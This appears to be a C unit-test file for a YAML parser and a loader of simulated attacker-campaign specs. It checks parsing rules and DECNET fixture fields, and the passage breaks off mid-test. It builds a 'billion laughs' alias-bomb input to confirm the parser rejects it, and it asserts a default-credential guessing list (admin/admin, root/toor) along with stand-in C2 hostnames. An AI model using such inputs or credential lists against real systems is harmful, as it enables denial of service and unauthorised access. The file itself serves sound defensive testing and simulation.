/*  test_dsl.c - unit tests of the YAML document layer (ydoc) and the campaign DSL loader.

    Inline documents go through dsl_load_buffer(); files come from TESTDATA_DIR/dsl (invalid
    documents and include chains) and SHARED_DIR/reference/decnet-fixtures (DECNET's seven
    fixture specs, whose loaded structures are checked field by field).
*/
#include "digest.h"
#include "dsl.h"
#include "err.h"
#include "ukc.h"
#include "xalloc.h"
#include "ydoc.h"

#include <dirent.h>
#include <errno.h>
#include <math.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

/* ----------------------------------------------------------------------------------------
   Helpers */

/*  A file under $env/sub, as a new string. */
static char *
s_path(const char *env, const char *sub)
{
    const char *dir = getenv(env);
    assert_non_null(dir);
    return xasprintf("%s/%s", dir, sub);
}

static char *
s_fixture(const char *name)
{
    char *sub = xasprintf("reference/decnet-fixtures/%s", name);
    char *p = s_path("SHARED_DIR", sub);
    free(sub);
    return p;
}

static char *
s_testdata(const char *name)
{
    char *sub = xasprintf("dsl/%s", name);
    char *p = s_path("TESTDATA_DIR", sub);
    free(sub);
    return p;
}

static dsl_corpus_t *
s_load_ok(const char *yaml)
{
    dsl_corpus_t *c = NULL;
    char err[512];
    int rc = dsl_load_buffer(yaml, strlen(yaml), "t.yaml", NULL, &c, err, sizeof err);
    if (rc != 0) {
        print_error("unexpected error: %s\n", err);
    }
    assert_int_equal(rc, 0);
    assert_non_null(c);
    return c;
}

/*  Loads yaml expecting failure with code rc and a message containing want. */
static void
s_load_fail(const char *yaml, int rc, const char *want)
{
    dsl_corpus_t *c = NULL;
    char err[512];
    int got = dsl_load_buffer(yaml, strlen(yaml), "t.yaml", NULL, &c, err, sizeof err);
    if (got != rc || strstr(err, want) == NULL) {
        print_error("rc %d (want %d), message \"%s\" (want \"%s\")\n", got, rc, err, want);
    }
    assert_int_equal(got, rc);
    assert_null(c);
    assert_non_null(strstr(err, want));
}

static void
s_fail_dsl(const char *yaml, const char *want)
{
    s_load_fail(yaml, CADRE_EDSL, want);
}

/*  A one-campaign document: actor_extra is appended to the single actor (id a),
    phase_extra to the single phase (delivery), campaign_extra to the campaign. */
static char *
s_doc(const char *actor_extra, const char *phase_extra, const char *campaign_extra)
{
    return xasprintf("campaign:\n"
                     "  id: c\n"
                     "  actors:\n"
                     "    - id: a\n"
                     "%s"
                     "  phases:\n"
                     "    - name: delivery\n"
                     "%s"
                     "%s",
                     actor_extra, phase_extra, campaign_extra);
}

static dsl_corpus_t *
s_doc_ok(const char *actor_extra, const char *phase_extra, const char *campaign_extra)
{
    char *y = s_doc(actor_extra, phase_extra, campaign_extra);
    dsl_corpus_t *c = s_load_ok(y);
    free(y);
    return c;
}

static void
s_doc_fail(const char *actor_extra, const char *phase_extra, const char *campaign_extra,
           const char *want)
{
    char *y = s_doc(actor_extra, phase_extra, campaign_extra);
    s_fail_dsl(y, want);
    free(y);
}

static ydoc_t *
s_ydoc(const char *yaml)
{
    char err[256];
    ydoc_t *d = ydoc_parse(yaml, strlen(yaml), "y.yaml", err, sizeof err);
    if (d == NULL) {
        print_error("unexpected ydoc error: %s\n", err);
    }
    assert_non_null(d);
    return d;
}

static void
s_ydoc_fail(const char *yaml, size_t len, const char *want)
{
    char err[256];
    ydoc_t *d = ydoc_parse(yaml, len, "y.yaml", err, sizeof err);
    if (d != NULL || strstr(err, want) == NULL) {
        print_error("message \"%s\" (want \"%s\")\n", err, want);
    }
    assert_null(d);
    assert_non_null(strstr(err, want));
}

static const ydoc_node_t *
s_get(const ydoc_t *d, const char *key)
{
    const ydoc_node_t *n = ydoc_map_get(ydoc_root(d), key);
    assert_non_null(n);
    return n;
}

/* ----------------------------------------------------------------------------------------
   ydoc: scalar typing */

/*  One implicit-typing expectation, checked against PyYAML 6.0 safe_load. */
typedef struct {
    const char *text; /* plain scalar */
    ydoc_type_t type; /* expected type */
    int64_t i;        /* expected integer (YDOC_INT) */
    double f;         /* expected float (YDOC_FLOAT; NAN for .nan) */
    int b;            /* expected boolean (YDOC_BOOL) */
} scalar_case_t;

static void
test_ydoc_scalar_types(void **state)
{
    (void)state;
    static const scalar_case_t cases[] = {
        {"~", YDOC_NULL, 0, 0, 0},
        {"null", YDOC_NULL, 0, 0, 0},
        {"Null", YDOC_NULL, 0, 0, 0},
        {"NULL", YDOC_NULL, 0, 0, 0},
        {"", YDOC_NULL, 0, 0, 0},
        {"nULL", YDOC_STR, 0, 0, 0},
        {"yes", YDOC_BOOL, 0, 0, 1},
        {"Yes", YDOC_BOOL, 0, 0, 1},
        {"YES", YDOC_BOOL, 0, 0, 1},
        {"yEs", YDOC_STR, 0, 0, 0},
        {"No", YDOC_BOOL, 0, 0, 0},
        {"on", YDOC_BOOL, 0, 0, 1},
        {"OFF", YDOC_BOOL, 0, 0, 0},
        {"True", YDOC_BOOL, 0, 0, 1},
        {"false", YDOC_BOOL, 0, 0, 0},
        {"y", YDOC_STR, 0, 0, 0},
        {"n", YDOC_STR, 0, 0, 0},
        {"0", YDOC_INT, 0, 0, 0},
        {"-0", YDOC_INT, 0, 0, 0},
        {"+12", YDOC_INT, 12, 0, 0},
        {"1_000", YDOC_INT, 1000, 0, 0},
        {"017", YDOC_INT, 15, 0, 0},
        {"08", YDOC_STR, 0, 0, 0},
        {"0o17", YDOC_STR, 0, 0, 0},
        {"0x1F", YDOC_INT, 31, 0, 0},
        {"-0x1_f", YDOC_INT, -31, 0, 0},
        {"0b101", YDOC_INT, 5, 0, 0},
        {"1:30", YDOC_INT, 90, 0, 0},
        {"-1:30", YDOC_INT, -90, 0, 0},
        {"190:20:30", YDOC_INT, 685230, 0, 0},
        {"0:30", YDOC_STR, 0, 0, 0},
        {"1:60", YDOC_STR, 0, 0, 0},
        {"12345", YDOC_INT, 12345, 0, 0},
        {"-9223372036854775808", YDOC_INT, INT64_MIN, 0, 0},
        {"9223372036854775807", YDOC_INT, INT64_MAX, 0, 0},
        {"1.5", YDOC_FLOAT, 0, 1.5, 0},
        {".5", YDOC_FLOAT, 0, 0.5, 0},
        {"1.", YDOC_FLOAT, 0, 1.0, 0},
        {"-1_0.5_", YDOC_FLOAT, 0, -10.5, 0},
        {"1.0e+3", YDOC_FLOAT, 0, 1000.0, 0},
        {"1.e-3", YDOC_FLOAT, 0, 0.001, 0},
        {"1:30.5", YDOC_FLOAT, 0, 90.5, 0},
        {"1e3", YDOC_STR, 0, 0, 0},
        {"1.0e3", YDOC_STR, 0, 0, 0},
        {"-.5", YDOC_STR, 0, 0, 0},
        {"._", YDOC_STR, 0, 0, 0},
        {".inf", YDOC_FLOAT, 0, INFINITY, 0},
        {"-.Inf", YDOC_FLOAT, 0, -INFINITY, 0},
        {".NaN", YDOC_FLOAT, 0, NAN, 0},
        {"2026-01-01", YDOC_TIMESTAMP, 0, 0, 0},
        {"2026-1-1 10:00:00", YDOC_TIMESTAMP, 0, 0, 0},
        {"2026-01-01T10:00:00.5Z", YDOC_TIMESTAMP, 0, 0, 0},
        {"2026-01-1", YDOC_STR, 0, 0, 0},
        {"_1", YDOC_STR, 0, 0, 0},
        {"rotating", YDOC_STR, 0, 0, 0},
    };
    for (size_t k = 0; k < sizeof cases / sizeof cases[0]; k++) {
        const scalar_case_t *c = &cases[k];
        char *y = xasprintf("v: %s\n", c->text);
        ydoc_t *d = s_ydoc(y);
        const ydoc_node_t *v = s_get(d, "v");
        if (ydoc_type(v) != c->type) {
            print_error("'%s': type %s, want %s\n", c->text, ydoc_type_name(ydoc_type(v)),
                        ydoc_type_name(c->type));
        }
        assert_int_equal(ydoc_type(v), c->type);
        assert_true(ydoc_is_scalar(v));
        assert_int_equal(ydoc_style(v), YDOC_STYLE_PLAIN);
        assert_string_equal(ydoc_text(v, NULL), c->text);
        if (c->type == YDOC_INT) {
            int64_t i = 0;
            assert_int_equal(ydoc_int(v, &i), 0);
            assert_true(i == c->i);
        } else if (c->type == YDOC_FLOAT) {
            double f = 0;
            assert_int_equal(ydoc_float(v, &f), 0);
            if (isnan(c->f)) {
                assert_true(isnan(f));
            } else {
                assert_true(f == c->f);
            }
        } else if (c->type == YDOC_BOOL) {
            assert_int_equal(ydoc_bool(v), c->b);
        }
        ydoc_destroy(&d);
        assert_null(d);
        free(y);
    }
}

static void
test_ydoc_quoted_and_tagged(void **state)
{
    (void)state;
    ydoc_t *d = s_ydoc("a: \"12\"\n"
                       "b: 'yes'\n"
                       "c: |\n  line\n"
                       "d: >\n  folded\n"
                       "e: !!str 12\n"
                       "f: !!int '0x10'\n"
                       "g: !!float 1\n"
                       "h: !!bool YeS\n"
                       "i: !!null whatever\n"
                       "j: ! 12\n"
                       "k: \"a\\0b\"\n"
                       "l: \"\"\n"
                       "m: !!seq [1]\n"
                       "n: !!map {x: 1}\n"
                       "o: !!timestamp 2026-01-01\n");
    assert_int_equal(ydoc_type(s_get(d, "a")), YDOC_STR);
    assert_int_equal(ydoc_style(s_get(d, "a")), YDOC_STYLE_DOUBLE);
    assert_string_equal(ydoc_text(s_get(d, "a"), NULL), "12");
    assert_int_equal(ydoc_type(s_get(d, "b")), YDOC_STR);
    assert_int_equal(ydoc_style(s_get(d, "b")), YDOC_STYLE_SINGLE);
    assert_int_equal(ydoc_style(s_get(d, "c")), YDOC_STYLE_LITERAL);
    assert_string_equal(ydoc_text(s_get(d, "c"), NULL), "line\n");
    assert_int_equal(ydoc_style(s_get(d, "d")), YDOC_STYLE_FOLDED);
    assert_int_equal(ydoc_type(s_get(d, "e")), YDOC_STR);
    int64_t i = 0;
    assert_int_equal(ydoc_int(s_get(d, "f"), &i), 0);
    assert_int_equal(i, 16);
    double f = 0;
    assert_int_equal(ydoc_type(s_get(d, "g")), YDOC_FLOAT);
    assert_int_equal(ydoc_float(s_get(d, "g"), &f), 0);
    assert_true(f == 1.0);
    assert_true(ydoc_bool(s_get(d, "h")));
    assert_int_equal(ydoc_type(s_get(d, "i")), YDOC_NULL);
    assert_int_equal(ydoc_type(s_get(d, "j")), YDOC_INT); /* '!' keeps implicit typing */
    size_t len = 0;
    const char *k = ydoc_text(s_get(d, "k"), &len);
    assert_int_equal(len, 3);
    assert_memory_equal(k, "a\0b", 3);
    assert_int_equal(ydoc_type(s_get(d, "l")), YDOC_STR);
    assert_int_equal(ydoc_type(s_get(d, "m")), YDOC_SEQ);
    assert_int_equal(ydoc_type(s_get(d, "n")), YDOC_MAP);
    assert_int_equal(ydoc_type(s_get(d, "o")), YDOC_TIMESTAMP);
    assert_int_equal(ydoc_style(s_get(d, "m")), YDOC_STYLE_NONE);
    assert_null(ydoc_text(s_get(d, "m"), &len));
    assert_int_equal(len, 0);
    ydoc_destroy(&d);

    s_ydoc_fail("v: !!int abc\n", 12, "y.yaml:1:4: 'abc' is not a valid !!int");
    s_ydoc_fail("v: !!bool maybe\n", 16, "is not a valid !!bool");
    s_ydoc_fail("v: !!float x\n", 13, "is not a valid !!float");
    s_ydoc_fail("v: !!timestamp x\n", 17, "is not a valid !!timestamp");
    s_ydoc_fail("v: !!binary aGk=\n", 17, "unsupported tag 'tag:yaml.org,2002:binary'");
    s_ydoc_fail("v: !custom x\n", 13, "unsupported tag '!custom'");
    s_ydoc_fail("v: !!set {a: null}\n", 19, "unsupported tag 'tag:yaml.org,2002:set'");
    s_ydoc_fail("v: !!map [1]\n", 13, "unsupported tag");
    s_ydoc_fail("v: 0b_\n", 7, "y.yaml:1:4: invalid integer '0b_'");
    s_ydoc_fail("v: 0x__\n", 8, "invalid integer");
    s_ydoc_fail("v: =\n", 5, "'=') is not supported");
}

static void
test_ydoc_numeric_ranges(void **state)
{
    (void)state;
    ydoc_t *d = s_ydoc("big: 9223372036854775808\n"
                       "u64: 0xffffffffffffffff\n"
                       "huge: 0x1ffffffffffffffff\n"
                       "neg: -1\n"
                       "minus_big: -9223372036854775809\n"
                       "b: true\n"
                       "s: text\n"
                       "seq: []\n");
    int64_t i = 0;
    uint64_t u = 0;
    double f = 0;
    assert_int_equal(ydoc_int(s_get(d, "big"), &i), -ERANGE);
    assert_int_equal(ydoc_uint(s_get(d, "big"), &u), 0);
    assert_true(u == 9223372036854775808u);
    assert_int_equal(ydoc_float(s_get(d, "big"), &f), 0);
    assert_true(f == 9223372036854775808.0);
    assert_int_equal(ydoc_uint(s_get(d, "u64"), &u), 0);
    assert_true(u == UINT64_MAX);
    assert_int_equal(ydoc_uint(s_get(d, "huge"), &u), -ERANGE);
    assert_int_equal(ydoc_int(s_get(d, "huge"), &i), -ERANGE);
    assert_int_equal(ydoc_float(s_get(d, "huge"), &f), -ERANGE);
    assert_int_equal(ydoc_uint(s_get(d, "neg"), &u), -ERANGE);
    assert_int_equal(ydoc_int(s_get(d, "neg"), &i), 0);
    assert_int_equal(i, -1);
    assert_int_equal(ydoc_float(s_get(d, "neg"), &f), 0);
    assert_true(f == -1.0);
    assert_int_equal(ydoc_int(s_get(d, "minus_big"), &i), -ERANGE);
    assert_int_equal(ydoc_int(s_get(d, "b"), &i), -EINVAL);
    assert_int_equal(ydoc_uint(s_get(d, "s"), &u), -EINVAL);
    assert_int_equal(ydoc_float(s_get(d, "s"), &f), -EINVAL);
    assert_false(ydoc_bool(s_get(d, "s")));
    assert_int_equal(ydoc_len(s_get(d, "s")), 0);
    assert_int_equal(ydoc_len(s_get(d, "seq")), 0);
    ydoc_destroy(&d);
}

/* ----------------------------------------------------------------------------------------
   ydoc: structure */

static void
test_ydoc_structure_and_marks(void **state)
{
    (void)state;
    ydoc_t *d = s_ydoc("# comment\n"
                       "zeta: 1\n"
                       "alpha:\n"
                       "  - x\n"
                       "  - {k: v, 2: two}\n"
                       "true: boolean key\n"
                       "\"true\": string key\n"
                       "empty:\n");
    assert_string_equal(ydoc_name(d), "y.yaml");
    const ydoc_node_t *root = ydoc_root(d);
    assert_int_equal(ydoc_type(root), YDOC_MAP);
    assert_int_equal(ydoc_len(root), 5);
    assert_string_equal(ydoc_text(ydoc_map_key(root, 0), NULL), "zeta");
    assert_string_equal(ydoc_text(ydoc_map_key(root, 1), NULL), "alpha");
    assert_int_equal(ydoc_type(ydoc_map_key(root, 2)), YDOC_BOOL);
    assert_null(ydoc_map_key(root, 5));
    assert_null(ydoc_map_value(root, 5));
    assert_null(ydoc_seq_at(root, 0));
    ydoc_mark_t m = ydoc_mark(ydoc_map_key(root, 0));
    assert_int_equal(m.line, 2);
    assert_int_equal(m.column, 1);
    const ydoc_node_t *alpha = s_get(d, "alpha");
    assert_int_equal(ydoc_type(alpha), YDOC_SEQ);
    assert_int_equal(ydoc_len(alpha), 2);
    assert_null(ydoc_seq_at(alpha, 2));
    assert_null(ydoc_map_get(alpha, "k"));
    const ydoc_node_t *flow = ydoc_seq_at(alpha, 1);
    m = ydoc_mark(flow);
    assert_int_equal(m.line, 5);
    assert_int_equal(m.column, 5);
    assert_string_equal(ydoc_text(ydoc_map_get(flow, "k"), NULL), "v");
    assert_null(ydoc_map_get(flow, "2")); /* the key 2 is an integer */
    m = ydoc_mark(ydoc_map_get(flow, "k"));
    assert_int_equal(m.line, 5);
    assert_int_equal(m.column, 9);
    assert_string_equal(ydoc_text(s_get(d, "true"), NULL), "string key");
    assert_int_equal(ydoc_type(s_get(d, "empty")), YDOC_NULL);
    assert_null(ydoc_map_get(root, "missing"));
    ydoc_destroy(&d);
    ydoc_destroy(&d); /* NULL is a no-op */

    /* Only the first document is read; what follows is not even parsed. */
    d = s_ydoc("---\nfirst: 1\n...\n---\nsecond: [unclosed\n");
    assert_non_null(ydoc_map_get(ydoc_root(d), "first"));
    ydoc_destroy(&d);
    /* A document holding only a null. */
    d = s_ydoc("---\n");
    assert_int_equal(ydoc_type(ydoc_root(d)), YDOC_NULL);
    ydoc_destroy(&d);
    /* UTF-8 text and a BOM. */
    d = s_ydoc("\xef\xbb\xbfname: caf\xc3\xa9\n");
    assert_string_equal(ydoc_text(s_get(d, "name"), NULL), "caf\xc3\xa9");
    ydoc_destroy(&d);
}

static void
test_ydoc_duplicate_keys(void **state)
{
    (void)state;
    s_ydoc_fail("a: 1\nb: 2\na: 3\n", 15,
                "y.yaml:3:1: duplicate mapping key 'a' (first at line 1, column 1)");
    s_ydoc_fail("1: a\n0x1: b\n", 12, "y.yaml:2:1: duplicate mapping key '0x1'");
    s_ydoc_fail("~: a\nnull: b\n", 13, "duplicate mapping key");
    s_ydoc_fail("{yes: 1, on: 2}", 15, "duplicate mapping key 'on'");
    s_ydoc_fail("x: {a: 1, b: 2, c: 3, d: 4, e: 5, f: 6, g: 7, h: 8, i: 9, c: 10}\n", 65,
                "y.yaml:1:59: duplicate mapping key 'c' (first at line 1, column 17)");
    /* Equal text, different types: not duplicates. */
    ydoc_t *d = s_ydoc("1: int\n\"1\": str\n1.0: float\ntrue: bool\n\"true\": str\n");
    assert_int_equal(ydoc_len(ydoc_root(d)), 5);
    ydoc_destroy(&d);
}

static void
test_ydoc_anchors(void **state)
{
    (void)state;
    ydoc_t *d = s_ydoc("base: &ja3 \"771,4865\"\n"
                       "list: &l [1, 2]\n"
                       "copy: *ja3\n"
                       "again: *l\n"
                       "*ja3 : aliased key\n"
                       "redefined: &ja3 other\n"
                       "after: *ja3\n");
    assert_ptr_equal(s_get(d, "base"), s_get(d, "copy"));
    assert_ptr_equal(s_get(d, "list"), s_get(d, "again"));
    assert_string_equal(ydoc_text(s_get(d, "771,4865"), NULL), "aliased key");
    assert_string_equal(ydoc_text(s_get(d, "after"), NULL), "other");
    ydoc_destroy(&d);

    s_ydoc_fail("a: *nowhere\n", 12, "y.yaml:1:4: undefined alias 'nowhere'");
    s_ydoc_fail("a: &r [1, *r]\n", 14, "recursive alias 'r' is not supported");
    s_ydoc_fail("a: &m {x: 1}\n<<: *m\n", 20, "merge keys ('<<') are not supported");
    s_ydoc_fail("? [a, b]\n: c\n", 13, "y.yaml:1:3: mapping keys must be scalars, not a sequence");
    s_ydoc_fail("a: &m {x: 1}\n*m : c\n", 20, "mapping keys must be scalars, not a mapping");

    /* "Billion laughs": nine levels of ten aliases each. */
    char *y = xstrdup("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
    for (int k = 1; k < 9; k++) {
        char *next = xasprintf("%sa%d: &a%d [*a%d, *a%d, *a%d, *a%d, *a%d, *a%d, *a%d, *a%d, "
                               "*a%d, *a%d]\n",
                               y, k, k, k - 1, k - 1, k - 1, k - 1, k - 1, k - 1, k - 1, k - 1,
                               k - 1, k - 1);
        free(y);
        y = next;
    }
    s_ydoc_fail(y, strlen(y), "aliases expand the document by more than");
    free(y);
}

static void
test_ydoc_errors(void **state)
{
    (void)state;
    s_ydoc_fail("", 0, "y.yaml:1:1: no YAML document in the input");
    s_ydoc_fail("# only a comment\n", 17, "no YAML document");
    s_ydoc_fail("a: [1, 2\n", 9, "y.yaml:2:1: did not find expected ',' or ']'");
    s_ydoc_fail("a: b: c\n", 8, "y.yaml:1:5: mapping values are not allowed in this context");
    s_ydoc_fail("a:\n  - x\n  y: z\n", 16,
                "y.yaml:3:3: did not find expected '-' indicator (while parsing a block "
                "collection at line 2, column 3)");
    s_ydoc_fail("a: \"\\uD800\"\n", 12, "y.yaml:1:");
    s_ydoc_fail("ok: 1\nbad: \xff\n", 13, "y.yaml:2:6: invalid leading UTF-8 octet (byte 0xff)");
    s_ydoc_fail("a: \x01\n", 5, "control characters are not allowed");
    /* Nesting limit. */
    char *deep = xcalloc(2 * YDOC_MAX_DEPTH + 8, 1);
    memset(deep, '[', YDOC_MAX_DEPTH + 1);
    memset(deep + YDOC_MAX_DEPTH + 1, ']', YDOC_MAX_DEPTH + 1);
    s_ydoc_fail(deep, strlen(deep), "collections nested deeper than 256 levels");
    memset(deep, 0, 2 * YDOC_MAX_DEPTH + 8);
    memset(deep, '[', YDOC_MAX_DEPTH);
    memset(deep + YDOC_MAX_DEPTH, ']', YDOC_MAX_DEPTH);
    ydoc_t *d = s_ydoc(deep);
    ydoc_destroy(&d);
    free(deep);
    /* Error buffers: tiny, and none at all. */
    char small[8];
    assert_null(ydoc_parse("a: [", 4, "y.yaml", small, sizeof small));
    assert_string_equal(small, "y.yaml:");
    assert_null(ydoc_parse("a: [", 4, NULL, NULL, 0));
    char err[128];
    assert_null(ydoc_parse("a: [", 4, NULL, err, sizeof err));
    assert_non_null(strstr(err, "<input>:"));
}

/* ----------------------------------------------------------------------------------------
   DSL: DECNET's fixtures */

static dsl_corpus_t *
s_load_fixture(const char *name)
{
    char *path = s_fixture(name);
    dsl_corpus_t *c = NULL;
    char err[512];
    int rc = dsl_load_file(path, &c, err, sizeof err);
    if (rc != 0) {
        print_error("%s: %s\n", path, err);
    }
    assert_int_equal(rc, 0);
    assert_int_equal(c->n_warnings, 0);
    assert_int_equal(c->n_files, 1);
    assert_string_equal(c->files[0], path);
    for (size_t i = 0; i < c->n_campaigns; i++) {
        assert_ptr_equal(c->campaigns[i].mark.file, c->files[0]);
    }
    free(path);
    return c;
}

static void
s_assert_hours(const dsl_actor_t *a, int64_t first, size_t n)
{
    assert_int_equal(a->n_hours, n);
    for (size_t i = 0; i < n; i++) {
        assert_int_equal(a->hours[i], (first + (int64_t)i) % 24);
    }
}

static void
s_assert_days(const dsl_actor_t *a, int64_t first, size_t n)
{
    assert_true(a->has_active_days);
    assert_int_equal(a->n_active_days, n);
    for (size_t i = 0; i < n; i++) {
        assert_int_equal(a->active_days[i], first + (int64_t)i);
    }
}

static void
s_assert_phase(const dsl_phase_t *p, ukc_phase_t phase, size_t actor, int64_t count, double dwell)
{
    assert_int_equal(p->phase, phase);
    assert_int_equal(p->actor, actor);
    assert_int_equal(p->count, count);
    assert_true(p->dwell == dwell);
}

static void
test_fixture_vpn_hopping(void **state)
{
    (void)state;
    dsl_corpus_t *c = s_load_fixture("vpn_hopping.yaml");
    assert_int_equal(c->n_campaigns, 1);
    assert_int_equal(c->noise_scanners, 0);
    const dsl_campaign_t *k = &c->campaigns[0];
    assert_string_equal(k->id, "vpn-hopping-001");
    assert_int_equal(k->duration_days, 2);
    assert_int_equal(k->n_pauses, 0);
    assert_int_equal(k->n_actors, 1);
    const dsl_actor_t *a = &k->actors[0];
    assert_string_equal(a->id, "hopper-a");
    assert_int_equal(a->asn, 64512);
    assert_true(a->rotating);
    assert_int_equal(a->rotation_count, 5);
    assert_int_equal(a->n_rotation_asns, 5);
    for (size_t i = 0; i < 5; i++) {
        assert_int_equal(a->rotation_asns[i], 64512 + (int64_t)i);
    }
    assert_string_equal(a->ja3, "771,4865-4866-4867-49195-49199-49196-49200,0-23-65281-10-11-35-"
                                "16-5-13-18-51-45-43-27,29-23-24,0");
    assert_string_equal(a->hassh, "vpn-hopper-cccccccc-cccccccc-cccccccc");
    s_assert_hours(a, 12, 5);
    assert_int_equal(a->jitter, 60);
    assert_false(a->has_active_days);
    assert_false(a->has_kd);
    assert_int_equal(a->mark.line, 28);
    assert_int_equal(a->mark.column, 7);
    assert_int_equal(k->n_phases, 3);
    s_assert_phase(&k->phases[0], UKC_DELIVERY, 0, 5, 1.0);
    s_assert_phase(&k->phases[1], UKC_EXPLOITATION, 0, 5, 5.0);
    s_assert_phase(&k->phases[2], UKC_DISCOVERY, 0, 5, 5.0);
    assert_null(k->phases[0].payload_hash);
    assert_string_equal(k->phases[1].payload_hash,
                        "ce0c4f3ab5e7a93b517e1a3d8fd30145c03b029c81fde494527edf418d63e549");
    char hex[DIGEST_SHA256_HEX];
    digest_sha256_hex("vpn-hopper-stage1-payload", 25, hex);
    assert_string_equal(k->phases[1].payload_hash, hex);
    for (size_t i = 0; i < 3; i++) {
        assert_false(k->phases[i].has_commands);
        assert_int_equal(k->phases[i].n_creds, 0);
        assert_null(k->phases[i].c2);
        assert_false(k->phases[i].previous_success);
    }
    dsl_corpus_destroy(&c);
    assert_null(c);
}

static void
test_fixture_shared_wordlist(void **state)
{
    (void)state;
    static const char *const pairs[8][2] = {
        {"admin", "admin"}, {"admin", "password"}, {"admin", "12345"}, {"root", "root"},
        {"root", "toor"},   {"root", "123456"},    {"user", "user"},   {"test", "test"},
    };
    dsl_corpus_t *c = s_load_fixture("shared_wordlist.yaml");
    assert_int_equal(c->n_campaigns, 2);
    assert_int_equal(c->noise_scanners, 0);
    static const char *const ids[2] = {"shared-wordlist-A", "shared-wordlist-B"};
    static const int64_t asns[2] = {14061, 7922};
    for (size_t k = 0; k < 2; k++) {
        const dsl_campaign_t *cam = &c->campaigns[k];
        assert_string_equal(cam->id, ids[k]);
        assert_int_equal(cam->duration_days, 1);
        assert_int_equal(cam->n_actors, 1);
        assert_int_equal(cam->actors[0].asn, asns[k]);
        assert_false(cam->actors[0].rotating);
        assert_int_equal(cam->actors[0].rotation_count, 1);
        assert_null(cam->actors[0].rotation_asns);
        assert_int_equal(cam->n_phases, 2);
        s_assert_phase(&cam->phases[0], UKC_DELIVERY, 0, 1, 1.0);
        s_assert_phase(&cam->phases[1], UKC_CREDENTIAL_ACCESS, 0, 3, 5.0);
        const dsl_phase_t *p = &cam->phases[1];
        assert_true(p->has_commands);
        assert_int_equal(p->n_commands, 0);
        assert_int_equal(p->n_creds, 8);
        for (size_t i = 0; i < 8; i++) {
            assert_string_equal(p->creds[i].user, pairs[i][0]);
            assert_string_equal(p->creds[i].pass, pairs[i][1]);
        }
    }
    s_assert_hours(&c->campaigns[0].actors[0], 10, 5);
    s_assert_hours(&c->campaigns[1].actors[0], 22, 5);
    assert_int_equal(c->campaigns[1].mark.line, 51);
    dsl_corpus_destroy(&c);
}

static void
test_fixture_lone_wolf(void **state)
{
    (void)state;
    dsl_corpus_t *c = s_load_fixture("lone_wolf.yaml");
    assert_int_equal(c->n_campaigns, 1);
    assert_int_equal(c->noise_scanners, 8);
    const dsl_campaign_t *k = &c->campaigns[0];
    assert_string_equal(k->id, "lone-wolf-001");
    const dsl_actor_t *a = &k->actors[0];
    assert_string_equal(a->id, "wolf-a");
    assert_int_equal(a->asn, 14061);
    assert_false(a->rotating);
    assert_null(a->ja3);
    assert_null(a->hassh);
    s_assert_hours(a, 3, 3);
    assert_int_equal(a->jitter, 30);
    assert_int_equal(k->n_phases, 1);
    s_assert_phase(&k->phases[0], UKC_DELIVERY, 0, 1, 1.0);
    assert_false(k->phases[0].previous_success);
    dsl_corpus_destroy(&c);
}

static void
test_fixture_paused_campaign(void **state)
{
    (void)state;
    dsl_corpus_t *c = s_load_fixture("paused_campaign.yaml");
    const dsl_campaign_t *k = &c->campaigns[0];
    assert_string_equal(k->id, "paused-campaign-001");
    assert_int_equal(k->duration_days, 7);
    assert_int_equal(k->n_pauses, 1);
    assert_int_equal(k->pauses[0].start, 2);
    assert_int_equal(k->pauses[0].end, 4);
    assert_int_equal(k->n_actors, 2);
    s_assert_days(&k->actors[0], 0, 2);
    s_assert_days(&k->actors[1], 5, 2);
    assert_string_equal(k->actors[0].ja3, k->actors[1].ja3);
    assert_int_equal(k->actors[1].asn, 64520);
    s_assert_hours(&k->actors[1], 9, 8);
    assert_int_equal(k->n_phases, 5);
    s_assert_phase(&k->phases[0], UKC_DELIVERY, 0, 2, 1.0);
    s_assert_phase(&k->phases[1], UKC_EXPLOITATION, 0, 2, 5.0);
    s_assert_phase(&k->phases[2], UKC_DISCOVERY, 1, 2, 5.0);
    s_assert_phase(&k->phases[3], UKC_LATERAL_MOVEMENT, 1, 2, 5.0);
    s_assert_phase(&k->phases[4], UKC_EXFILTRATION, 1, 2, 5.0);
    assert_string_equal(k->phases[1].payload_hash,
                        "d93ceac2838843fd69e7634c9ac0a4a1443ff7d9c7585786601706113a19087a");
    assert_string_equal(k->phases[3].payload_hash, k->phases[1].payload_hash);
    assert_null(k->phases[4].payload_hash);
    assert_string_equal(k->phases[4].c2, "c2.paused-op.example");
    assert_null(k->phases[2].c2);
    dsl_corpus_destroy(&c);
}

static void
test_fixture_multi_operator(void **state)
{
    (void)state;
    dsl_corpus_t *c = s_load_fixture("multi_operator.yaml");
    const dsl_campaign_t *k = &c->campaigns[0];
    assert_string_equal(k->id, "multi-operator-001");
    assert_int_equal(k->duration_days, 3);
    assert_int_equal(k->n_actors, 2);
    assert_string_equal(k->actors[0].id, "ops-broker-night");
    assert_string_equal(k->actors[1].id, "ops-postex-day");
    assert_int_equal(k->actors[0].n_hours, 6);
    assert_int_equal(k->actors[0].hours[2], 0);
    s_assert_hours(&k->actors[1], 9, 5);
    assert_int_equal(k->n_phases, 8);
    static const ukc_phase_t phases[8] = {
        UKC_DELIVERY,  UKC_EXPLOITATION,     UKC_PERSISTENCE, UKC_COMMAND_AND_CONTROL,
        UKC_DISCOVERY, UKC_LATERAL_MOVEMENT, UKC_COLLECTION,  UKC_EXFILTRATION};
    static const int64_t counts[8] = {2, 2, 1, 1, 2, 2, 2, 2};
    static const bool previous[8] = {false, false, true, true, true, false, false, false};
    for (size_t i = 0; i < 8; i++) {
        s_assert_phase(&k->phases[i], phases[i], i < 4 ? 0 : 1, counts[i], i == 0 ? 1.0 : 5.0);
        assert_int_equal(k->phases[i].previous_success, previous[i]);
        assert_string_equal(k->phases[i].c2, "c2.shared-op.example");
        assert_false(k->phases[i].has_commands);
    }
    assert_string_equal(k->phases[1].payload_hash,
                        "756476aa57724b9409146abdeaf769efd6a9881b2539a874e6e57e04ce822dbc");
    assert_string_equal(k->phases[6].payload_hash, k->phases[1].payload_hash);
    assert_null(k->phases[0].payload_hash);
    dsl_corpus_destroy(&c);
}

static void
test_fixture_slow_burn(void **state)
{
    (void)state;
    dsl_corpus_t *c = s_load_fixture("slow_burn.yaml");
    const dsl_campaign_t *k = &c->campaigns[0];
    assert_string_equal(k->id, "slow-burn-001");
    assert_int_equal(k->duration_days, 90);
    assert_int_equal(k->n_actors, 3);
